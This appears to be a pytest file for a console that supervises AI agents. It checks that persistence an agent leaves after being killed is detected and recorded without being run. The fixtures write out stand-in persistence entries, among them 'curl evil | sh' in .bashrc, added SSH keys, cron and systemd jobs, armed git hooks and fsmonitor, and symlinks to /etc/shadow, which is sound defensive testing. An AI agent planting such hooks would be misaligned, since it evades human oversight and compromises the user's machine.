"""What an agent leaves so as to come back, or to be run by a person, is listed after its kill; nothing of it is ever run. Real agents."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from console.api.persistence import FindingView, PersistenceReport
from console.domain.kill import Receipt, Step, StepName
from console.settings.options import save_options
from tests.fakes.instance import Instance, until

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def host(state_dir: Path) -> Iterator[Path]:
    """A stand-in for / with one home, in which the agents' uid may write; confined like every instance with a state directory."""
    made = state_dir.with_name(f"{state_dir.name}-host")
    home = made / "home" / "ann"
    for folder in (home / ".ssh", home / ".config", home / ".local" / "bin", made / "etc" / "cron.d", made / "var" / "spool" / "cron"):
        folder.mkdir(parents=True)
    (home / ".bashrc").write_text("# mine\nalias ll='ls -l'\n")
    (made / "etc" / "crontab").write_text("# m h dom mon dow user command\n")
    (home / ".gitconfig").write_text("[user]\n\tname = Ann\n")
    for path in (made, *made.rglob("*")):
        os.chmod(path, 0o777 if path.is_dir() else 0o666)
    changes = {"persistence.home": str(home), "persistence.system": str(made), "persistence.bound_s": 60.0}
    save_options(state_dir / "settings.json", changes)
    yield made
    shutil.rmtree(made)


@pytest.fixture
def it(host: Path, state_dir: Path) -> Iterator[Instance]:
    with Instance(state_dir) as instance:
        yield instance


def second_look(receipt: Receipt) -> Step:
    return next(s for s in receipt.steps if s.name is StepName.SECOND_LOOK)


def case(it: Instance, receipt: Receipt) -> Any:
    raw = (it.state_dir / "cases" / receipt.kill_id / "persistence.json").read_bytes()
    assert hashlib.sha256(raw).hexdigest() in second_look(receipt).detail
    return json.loads(raw)


def listed(it: Instance, session: str) -> dict[str, FindingView]:
    report = looked(it, session)
    return {f.path: f for f in report.findings}


def looked(it: Instance, session: str) -> PersistenceReport:
    [report] = it.api.persistence(session).reports
    return report


def workspace(it: Instance, agent: str) -> Path:
    return it.places.workspaces_dir / it.agent(agent).session


PLANTED = {
    ".bashrc": "curl evil | sh\n",
    ".profile": "evil",
    ".ssh/authorized_keys": "ssh-ed25519 AAAA evil",
    ".config/systemd/user/evil.service": "[Service]\nExecStart=/evil",
    ".local/bin/git": "#!/bin/sh\nevil",
    "bin/docker": "#!/bin/sh\nevil",
    ".local/bin/python": "#!/bin/sh\nevil",
    "repos/x/.git/hooks/post-checkout": "evil",
    "repos/x/.git/config": "[core]\n\tfsmonitor = /evil\n",
    "repos/x/.envrc": "evil",
    "repos/x/.vscode/tasks.json": "{}",
    "repos/x/conftest.py": "evil",
    "repos/x/.venv/lib/python3.11/site-packages/sitecustomize.py": "evil",
    "repos/x/.venv/lib/python3.11/site-packages/evil.pth": "import evil",
    "repos/x/package.json": '{"scripts": {"test": "evil"}}',
    "repos/x/.mcp.json": "{}",
    "repos/x/CLAUDE.md": "evil",
    "repos/x/AGENTS.md": "evil",
}
"""What brings an agent back, planted in a workspace, which is also the HOME of its agents."""
OUTSIDE = {
    "etc/cron.d/evil": "* * * * * root /evil",
    "var/spool/cron/crontabs/ann": "* * * * * /evil",
    "home/ann/.config/systemd/user/evil.timer": "[Timer]",
    "home/ann/.local/bin/git": "#!/bin/sh\nevil",
    "home/ann/.claude.json": '{"mcpServers": {"x": {"command": "/evil"}}}',
    "home/ann/.ssh/authorized_keys": "ssh-ed25519 AAAA evil",
}


def planting(files: dict[str, str], top: str = "") -> str:
    return (
        f"files, top = {files!r}, {top!r}\n"
        "for path, text in files.items():\n"
        "    path = os.path.join(top, path)\n"
        "    os.makedirs(os.path.dirname(path) or '.', exist_ok=True)\n"
        "    open(path, 'w').write(text); os.chmod(path, 0o755)\n"
    )


def every_place_of_row_b1_that_an_agent_writes_is_in_the_receipt_and_the_case(it: Instance, host: Path) -> None:
    agent = it.python(
        planting(PLANTED) + planting(OUTSIDE, str(host)) + "print('planted', flush=True); time.sleep(300)", context_id="c-evil"
    )
    it.says(agent, "planted")
    (host / "home" / "ann" / ".bashrc").write_text("# mine\nalias ll='ls -l'\ncurl evil | sh # \x1b[31m\u202e\n")  # as the agent might
    receipt = it.api.kill(agent)
    step = second_look(receipt)
    assert receipt.verified_zero and step.status == "ok", step
    work = str(workspace(it, agent))
    wanted = {f"{work}/{path}" for path in PLANTED} | {f"{host}/{path}" for path in OUTSIDE} | {f"{host}/home/ann/.bashrc"}
    found = {f["path"]: f for f in case(it, receipt)["sessions"][0]["findings"]}
    assert set(found) == wanted
    assert f"{len(wanted)} changed since the baseline, {len(OUTSIDE) + 1} of them outside the workspaces" in step.detail
    assert "quarantine: not available, because putting away what was found is not built yet" in step.detail

    changed = found[f"{host}/home/ann/.bashrc"]
    assert (changed["change"], changed["runs"]) == ("changed", "your next shell")
    assert changed["excerpt"] == "curl evil | sh # \\x1b[31m\\u202e"
    assert changed["before_sha256"] != changed["after_sha256"] == hashlib.sha256((host / "home/ann/.bashrc").read_bytes()).hexdigest()
    assert found[f"{host}/etc/cron.d/evil"]["could_write"].startswith("yes: it belongs to uid")
    assert found[f"{work}/.bashrc"]["could_write"] == "yes: it is in the session's workspace"
    assert {f["change"] for p, f in found.items() if p != f"{host}/home/ann/.bashrc"} == {"added"}
    assert "evil" in found[f"{host}/var/spool/cron/crontabs/ann"]["excerpt"]
    # Kept in the sealed receipt, and to be asked for again, also later.
    sealed = it.places.receipts_dir / f"{receipt.kill_id}.sealed.json"
    until(lambda: sealed.exists() and step.detail in json.loads(sealed.read_text())["receipt"]["steps"][4]["detail"])
    assert set(listed(it, "c-evil")) == wanted


def a_session_that_left_nothing_lists_nothing(it: Instance) -> None:
    agent = it.python("open('data/result.txt', 'w').write('42'); print('done', flush=True); time.sleep(300)", context_id="c-clean")
    it.says(agent, "done")
    receipt = it.api.kill(agent)
    assert second_look(receipt).status == "ok"
    assert "nothing changed since the baseline" in second_look(receipt).detail
    assert case(it, receipt)["sessions"][0]["findings"] == []
    assert it.api.persistence("c-clean").reports[0].doubts == []


def test_what_agents_leave_is_listed_and_what_they_do_not_leave_is_not(it: Instance, host: Path) -> None:
    every_place_of_row_b1_that_an_agent_writes_is_in_the_receipt_and_the_case(it, host)
    a_session_that_left_nothing_lists_nothing(it)  # it began after those places were planted: they are in its baseline
    what_an_agent_plants_to_mislead_the_look_does_not_stop_it(it)
    a_later_agent_of_the_same_session_is_measured_by_the_first_baseline(it)
    what_an_ended_session_left_is_recorded_without_a_kill(it, host)


def test_the_baseline_is_signed_recorded_and_hidden_and_a_changed_or_missing_one_reads_as_unknown(it: Instance, host: Path) -> None:
    path = it.state_dir / "baselines" / "c-one.json"
    agent = it.python(f"print('seen', os.path.exists({str(path)!r}), flush=True); time.sleep(300)", context_id="c-one")
    assert "seen False" in it.says(agent, "seen")
    rows = [r for r in it.api.audit(limit=200).rows if r.kind == "persistence.baseline"]
    assert rows[0].data["sha256"] == hashlib.sha256(path.read_bytes()).hexdigest()
    assert looked(it, "c-one").doubts == []

    whole = path.read_bytes()
    path.write_bytes(whole.replace(b'"executable":false', b'"executable":true ', 1))
    report = looked(it, "c-one")
    assert "not as it was signed" in report.doubts[0]
    assert {f.change for f in report.findings} == {"unverified"}
    assert f"{host}/home/ann/.bashrc" in {f.path for f in report.findings}
    receipt = it.api.kill(agent)
    assert receipt.persistence == "unknown" and "not as it was signed" in second_look(receipt).detail
    assert receipt.verified_zero

    # A baseline that is gone is not taken anew while the session's agents may have left something.
    path.unlink()
    it.stop()
    it.start()
    kept = {r.context_id: r for r in it.api.persistence().reports}  # what the kill before found is known after a restart too
    assert "not as it was signed" in kept["c-one"].doubts[0] and {f.change for f in kept["c-one"].findings} == {"unverified"}
    again = it.launch("sleep", "300", context_id="c-one")
    receipt = it.api.kill(again)
    assert not path.exists()
    assert receipt.persistence == "unknown" and "there is no baseline" in second_look(receipt).detail


def what_an_ended_session_left_is_recorded_without_a_kill(it: Instance, host: Path) -> None:
    it.python(planting({"etc/cron.d/later": "* * * * * root /evil"}, str(host)), context_id="c-gone")
    kind = "persistence.found"  # c-two may have one as well, which comes before or after it
    row = until(lambda: next((r for r in it.api.audit(limit=200).rows if r.kind == kind and r.data["context"] == "c-gone"), None))
    assert row is not None and "etc/cron.d/later" in row.what and row.data["outside"] == 1
    until(lambda: any("etc/cron.d/later" in n for n in it.api.status().notices))
    until(lambda: "c-gone" in {report.context_id for report in it.api.persistence().reports})


def a_later_agent_of_the_same_session_is_measured_by_the_first_baseline(it: Instance) -> None:
    first = it.python("open('.envrc', 'w').write('evil'); print('done', flush=True)", context_id="c-two")
    it.says(first, "done")
    it.state_becomes(first, "ended")
    second = it.launch("sleep", "300", context_id="c-two")
    receipt = it.api.kill(second)
    assert ".envrc" in second_look(receipt).detail


def what_an_agent_plants_to_mislead_the_look_does_not_stop_it(it: Instance) -> None:
    agent = it.python(
        "os.mkfifo('.bashrc'); os.symlink('/etc/shadow', '.profile'); os.symlink('.zshrc', '.zshrc')\n"
        "open('.bash_logout', 'wb').truncate(1 << 30); os.symlink('/', '.config'); os.symlink('..', 'data/up')\n"
        "os.mkdir(b'\\xff\\n\\xe2\\x80\\xae'); open(b'\\xff\\n\\xe2\\x80\\xae/conftest.py', 'w').write('evil')\n"
        "print('planted', flush=True); time.sleep(300)",
        context_id="c-bad",
    )
    it.says(agent, "planted")
    receipt = it.api.kill(agent)
    assert second_look(receipt).status == "ok", second_look(receipt)
    found = {f["path"].removeprefix(f"{workspace(it, agent)}/"): f for f in case(it, receipt)["sessions"][0]["findings"]}
    assert {p: f["what"] for p, f in found.items()} == {
        ".bashrc": "fifo", ".profile": "link", ".zshrc": "link", ".bash_logout": "file", ".config": "link",
        "\\xff\\n\\u202e/conftest.py": "file",
    }  # fmt: skip
    assert found[".profile"]["note"] == "leads to /etc/shadow" and found[".profile"]["after_sha256"] != ""
    assert "root:" not in json.dumps(case(it, receipt))


# --- row B2: nothing of ours runs git in a workspace


def test_a_repository_that_would_run_a_program_is_looked_at_without_running_it(it: Instance, host: Path) -> None:
    """fsmonitor, hooks, pager, filters and a sitecustomize, all armed: launch, kill, evidence, diff, hunt, doctor, and none ran."""
    ran = host / "ran"
    spring = f"#!/bin/sh\necho $0 >> {ran}\n"
    files = {
        "spring": spring,
        ".git/HEAD": "ref: refs/heads/main\n",
        ".git/config": "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = ./spring\n\thooksPath = .git/hooks\n\tpager = ./spring\n"
        '[filter "f"]\n\tclean = ./spring\n\tsmudge = ./spring\n[diff "f"]\n\ttextconv = ./spring\n\tcommand = ./spring\n',
        ".git/objects/x": "",
        ".git/refs/x": "",
        ".gitattributes": "* filter=f diff=f\n",
        **{f".git/hooks/{name}": spring for name in ("post-checkout", "pre-commit", "post-index-change", "reference-transaction")},
        "sitecustomize.py": f"open({str(ran)!r}, 'a').write('python')\n",
        "console/__init__.py": f"open({str(ran)!r}, 'a').write('console')\n",
    }
    agent = it.python(planting(files) + "print('armed', flush=True); time.sleep(300)", context_id="c-git")
    it.says(agent, "armed")
    work = workspace(it, agent)
    receipt = it.api.kill(agent)
    assert receipt.verified_zero
    assert {f"{work}/.git/config", f"{work}/.git/hooks/pre-commit"} <= set(listed(it, "c-git"))
    it.api.status()
    # A person who stands in that folder and uses the command line there runs nothing of it either.
    script = host / "watchfloor"  # as pip installs it
    script.write_text("from console.__main__ import main\nmain()\n")
    for verb in ("doctor", "fleet"):
        command = [sys.executable, str(script), verb, "--state-dir", str(it.state_dir)]
        env = {**os.environ, "PYTHONPATH": str(ROOT)}
        told = subprocess.run(command, cwd=work, env=env, stdin=subprocess.DEVNULL, capture_output=True, timeout=120, check=False)
        assert told.returncode == 0, told.stderr
    assert not ran.exists(), ran.read_text()
    # The springs are sound: git itself would have run them.
    subprocess.run(["git", "-C", str(work), "-c", "safe.directory=*", "status"], capture_output=True, timeout=150, check=False)
    until(ran.exists)
